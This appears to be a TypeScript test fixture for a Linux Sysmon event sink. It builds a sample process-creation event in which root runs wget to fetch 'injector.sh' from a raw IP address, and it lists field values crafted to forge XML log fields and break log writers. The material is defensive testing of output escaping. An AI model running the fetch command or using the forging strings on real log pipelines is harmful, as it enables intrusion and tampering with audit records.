// Events shared by the sink tests: a realistic ProcessCreate and hostile variants.
import type { Identity, SysmonEvent } from '../../src/events/event.js';
import { eventDef } from '../../src/events/schema.js';
import { utcTime } from '../../src/events/time.js';

export const IDENTITY: Identity = {
  provider: 'Linux-Sysmon',
  providerGuid: '{ff032593-a8d3-4f13-b0d6-01fc615a0f97}',
  channel: 'Linux-Sysmon/Operational',
  computer: 'ip-172-31-60-25',
};

const T0 = 1669278601467399000n; // 2022-11-24T08:30:01.467399000Z (the real line of sysmon-notes §2.3)

export function processCreate(recordId: number, over: Record<string, string | number> = {}): SysmonEvent {
  const data: Record<string, string | number> = {
    RuleName: '-',
    UtcTime: utcTime(T0),
    ProcessGuid: '{c9eb4a87-2b89-637f-700c-0807f5550000}',
    ProcessId: 3372,
    Image: '/usr/bin/wget',
    FileVersion: '-',
    Description: '-',
    Product: '-',
    Company: '-',
    OriginalFileName: '-',
    CommandLine: 'wget http://44.204.18.94:80/injector.sh',
    CurrentDirectory: '/root',
    User: 'root',
    LogonGuid: '{c9eb4a87-0000-0000-0000-000000000000}',
    LogonId: '0',
    TerminalSessionId: 64,
    IntegrityLevel: 'no level',
    Hashes: '-',
    ParentProcessGuid: '{c9eb4a87-2b89-637f-4894-b7e93f560000}',
    ParentProcessId: 3371,
    ParentImage: '/bin/bash',
    ParentCommandLine: '/bin/bash',
    ParentUser: 'root',
    ...over,
  };
  // keep schema order
  const ordered: Record<string, string | number> = {};
  for (const f of eventDef(1).fields) ordered[f.name] = data[f.name]!;
  return { id: 1, recordId, timeNs: T0, data: ordered };
}

export function errorEvent(recordId: number, description: string): SysmonEvent {
  return { id: 255, recordId, timeNs: T0, data: { UtcTime: utcTime(T0), ID: 'SinkLoss', Description: description } };
}

/** Values a process controls, chosen to break naive XML/syslog/JSON writers. */
export const HOSTILE: Record<string, string> = {
  newline: 'sh -c "echo a\nb"\r\n\tend',
  markup: '</Data></EventData><Data Name="Image">/forged</Data> & <x> "q" \'a\'',
  entity: '&amp; &lt; &#10; ]]> <![CDATA[x]]>',
  controls: 'nul\u0000bel\u0007esc\u001b[31mdel\u007f ff\u000c vt\u000b',
  nonAscii: 'Grüße/日本語/emoji😀/\u00a0nbsp/\u2028ls\u2029ps',
  invalidUtf8: 'bad\udcff\udcc3(\udc80end',
  backslash: 'C:\\Windows\\x41 \\ trailing\\',
  noncharacters: 'fffe\ufffe ffff\uffff lone-high\ud800x',
};

export function hostileEvents(start: number): SysmonEvent[] {
  let id = start;
  const out: SysmonEvent[] = [];
  for (const [k, v] of Object.entries(HOSTILE)) {
    out.push(processCreate(id++, { CommandLine: v, CurrentDirectory: `/tmp/${k}`, User: v, ParentCommandLine: `${k}:${v}` }));
  }
  return out;
}
